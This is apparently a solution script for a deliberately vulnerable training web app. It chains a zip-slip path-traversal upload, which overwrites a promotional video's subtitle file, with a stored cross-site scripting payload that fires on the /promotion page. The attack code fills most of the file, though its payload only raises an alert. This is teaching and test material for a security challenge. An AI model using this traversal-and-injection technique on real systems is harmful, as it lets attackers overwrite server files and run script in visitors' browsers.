import { proveInBrowser } from '@fruit/challenge-kit/browser-proof'
import { zipArchive } from '@fruit/challenge-kit/zip-archive'
import { challenge } from './challenge.ts'

const SUBTITLES = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'

export const browserProof = proveInBrowser(challenge, async ({ client, page, open, said }) => {
  const form = new FormData()
  const archive = zipArchive({ [SUBTITLES]: 'WEBVTT\n\n</script><script>alert(`xss`)</script>' })
  form.append('file', new Blob([archive], { type: 'application/zip' }), 'subtitles.zip')
  await client.post('/file-upload', form)
  // From the web client to the server-rendered page.
  await open('/about')
  await page.goto(new URL('/promotion', page.url()).href)
  await page.locator('video').waitFor()
  // Scripts run while the page is parsed, before the load event.
  return said.includes('xss')
})
